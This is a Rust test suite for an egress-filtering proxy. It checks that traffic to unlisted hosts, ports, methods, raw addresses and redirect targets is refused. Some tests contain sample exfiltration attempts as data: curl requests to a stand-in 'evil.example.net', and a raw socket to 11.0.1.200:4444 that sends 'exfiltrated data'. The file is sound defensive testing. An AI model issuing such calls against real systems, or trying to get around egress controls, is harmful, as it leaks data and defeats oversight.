//! What no rule names: hosts, ports, protocols, methods, raw addresses.

use std::net::SocketAddr;

use gig_policy::DenyReason;
use gig_tests::lab::{Lab, Way, denial::Refusal, http_origin::greet, network::internet_address};

const ALLOWED: &str = "api.example.com";
const DENIED: &str = "evil.example.net";

fn forbidden(run: &gig_tests::lab::Finished) -> bool {
    run.text().contains("403")
}

#[test]
fn denied_host_over_https_by_proxy_never_reaches_origin() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().allow(ALLOWED).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "-v",
        "https://evil.example.net/",
    ]);
    let client = |run: &gig_tests::lab::Finished| run.error_text().contains("403");
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .client(client)
        .check(&run);
}

#[test]
fn denied_name_does_not_resolve() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().allow(ALLOWED).going(Way::Straight);
    let run = run.run(["curl", "-sS", "-m", "20", "https://evil.example.net/"]);
    let client = |run: &gig_tests::lab::Finished| run.status == 6;
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .repeatedly()
        .client(client)
        .check(&run);
}

#[test]
fn nothing_is_allowed_without_a_policy() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().going(Way::Straight).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "https://evil.example.net/",
    ]);
    Refusal::new(DenyReason::HostNotAllowed)
        .repeatedly()
        .check(&run);
}

#[test]
fn denied_host_over_http_is_answered_403() {
    let lab = Lab::new();
    let _origin = lab.http(DENIED, greet);
    let run =
        lab.gig()
            .allow(ALLOWED)
            .run(["curl", "-sS", "-m", "20", "-i", "http://evil.example.net/"]);
    let client = |run: &gig_tests::lab::Finished| {
        let text = run.text();
        text.contains("403")
            && text.contains("egress_denied")
            && text.contains("host_not_allowed")
            && text.to_lowercase().contains("proxy-status: gig")
    };
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .client(client)
        .check(&run);
}

#[test]
fn denied_name_in_sni_towards_a_raw_address_is_explained_in_http() {
    let lab = Lab::new();
    let origin = lab.https(DENIED, greet);
    let at = origin.raw().address().ip();
    let pin = format!("{DENIED}:443:{at}");
    let run = lab.gig().allow(ALLOWED).going(Way::Straight).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "-i",
        "--resolve",
        &pin,
        "https://evil.example.net/",
    ]);
    let refusal = Refusal::new(DenyReason::HostNotAllowed).or(DenyReason::IpNotAllowed);
    refusal.client(forbidden).check(&run);
}

#[test]
fn denied_port_of_an_allowed_host_is_refused() {
    let lab = Lab::new();
    let address = lab.address_for(ALLOWED);
    let at = SocketAddr::new(address, 8443);
    let origin = lab.tls(at, &[ALLOWED], &[], |conversation| conversation.drain());
    let script = "s, status = tunnel('api.example.com:8443'); print(status)\n\
        attempt(lambda: tls('api.example.com', 8443).sendall(get('/', 'api.example.com')))";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let refusal = Refusal::new(DenyReason::PortNotAllowed)
        .of(ALLOWED)
        .repeatedly();
    refusal.unseen_by(&origin).client(forbidden).check(&run);
}

#[test]
fn denied_method_never_reaches_origin() {
    let lab = Lab::new();
    let _origin = lab.https(ALLOWED, greet);
    let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
        rules: [{methods: [GET]}]\n";
    for version in ["--http1.1", "--http2"] {
        let url = "https://api.example.com/thing";
        let words = [
            "curl", "-sS", "-m", "20", "-i", version, "-X", "DELETE", url,
        ];
        let run = lab.gig().policy(policy).run(words);
        let refusal = Refusal::new(DenyReason::MethodNotAllowed).of(ALLOWED);
        refusal
            .client(forbidden)
            .beside_allowed_traffic()
            .check(&run);
    }
    assert!(
        _origin.requests().is_empty(),
        "ESCAPED: {:?}",
        _origin.requests()
    );
}

#[test]
fn method_names_are_compared_exactly() {
    let lab = Lab::new();
    let origin = lab.https(ALLOWED, greet);
    let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
        rules: [{methods: [GET]}]\n";
    let script = "s = tls('api.example.com'); s.sendall(get('/', 'api.example.com', method='get')); print(rest(s))";
    let run = lab.gig().policy(policy).wire(script);
    assert!(
        origin.requests().is_empty(),
        "ESCAPED: {:?}",
        origin.requests()
    );
    let refusal = Refusal::new(DenyReason::MethodNotAllowed).or(DenyReason::MalformedRequest);
    refusal.beside_allowed_traffic().check(&run);
}

#[test]
fn raw_address_without_a_rule_is_refused() {
    let lab = Lab::new();
    let at = SocketAddr::new(internet_address(200), 443);
    let origin = lab.tls(at, &["11.0.1.200"], &[], |conversation| {
        conversation.drain()
    });
    let url = format!("https://{}/", at.ip());
    let run = lab
        .gig()
        .allow(ALLOWED)
        .run(["curl", "-sS", "-k", "-m", "20", "-v", &url]);
    let client =
        |run: &gig_tests::lab::Finished| run.status != 0 && run.error_text().contains("403");
    Refusal::new(DenyReason::IpNotAllowed)
        .unseen_by(&origin)
        .client(client)
        .check(&run);
}

#[test]
fn raw_address_with_plain_bytes_is_reset() {
    let lab = Lab::new();
    let at = SocketAddr::new(internet_address(200), 4444);
    let origin = lab.tcp(at, |conversation| conversation.drain());
    let script = "def go():\n s = connect('11.0.1.200', 4444); s.sendall(b'exfiltrated data\\n'); \
        return repr(rest(s))\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let refusal = Refusal::new(DenyReason::IpNotAllowed).or(DenyReason::PortNotAllowed);
    refusal.unseen_by(&origin).check(&run);
}

#[test]
fn opaque_bytes_towards_an_http_rule_are_refused() {
    let lab = Lab::new();
    let address = lab.address_for(ALLOWED);
    let origin = lab.tcp(SocketAddr::new(address, 443), |conversation| {
        conversation.drain()
    });
    let script = "def go():\n s = connect('api.example.com', 443); s.sendall(b'\\x00\\x01not http at all\\n'); \
        return repr(rest(s))\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let refusal = Refusal::new(DenyReason::ProtocolNotAllowed).or(DenyReason::UnsupportedProtocol);
    refusal
        .or(DenyReason::MalformedRequest)
        .unseen_by(&origin)
        .check(&run);
}

#[test]
fn wildcard_does_not_cover_the_apex() {
    let lab = Lab::new();
    let _origin = lab.https("example.org", greet);
    let run = lab.gig().allow("*.example.org").going(Way::Straight);
    let run = run.run(["curl", "-sS", "-m", "20", "https://example.org/"]);
    Refusal::new(DenyReason::HostNotAllowed)
        .of("example.org")
        .repeatedly()
        .check(&run);
}

#[test]
fn redirect_to_a_denied_host_is_not_followed_out() {
    let lab = Lab::new();
    let _from = lab.https(ALLOWED, |request, exchange| {
        exchange.body(request)?;
        exchange.send("HTTP/1.1 302 Found\r\nlocation: https://evil.example.net/loot\r\ncontent-length: 0\r\n\r\n")
    });
    let to = lab.https(DENIED, greet);
    for way in Way::BOTH {
        let run = lab.gig().allow(ALLOWED).going(way);
        let run = run.run(["curl", "-sSL", "-m", "20", "https://api.example.com/"]);
        let refusal = Refusal::new(DenyReason::HostNotAllowed)
            .of(DENIED)
            .repeatedly();
        refusal.unseen_by(to.raw()).check(&run);
    }
}
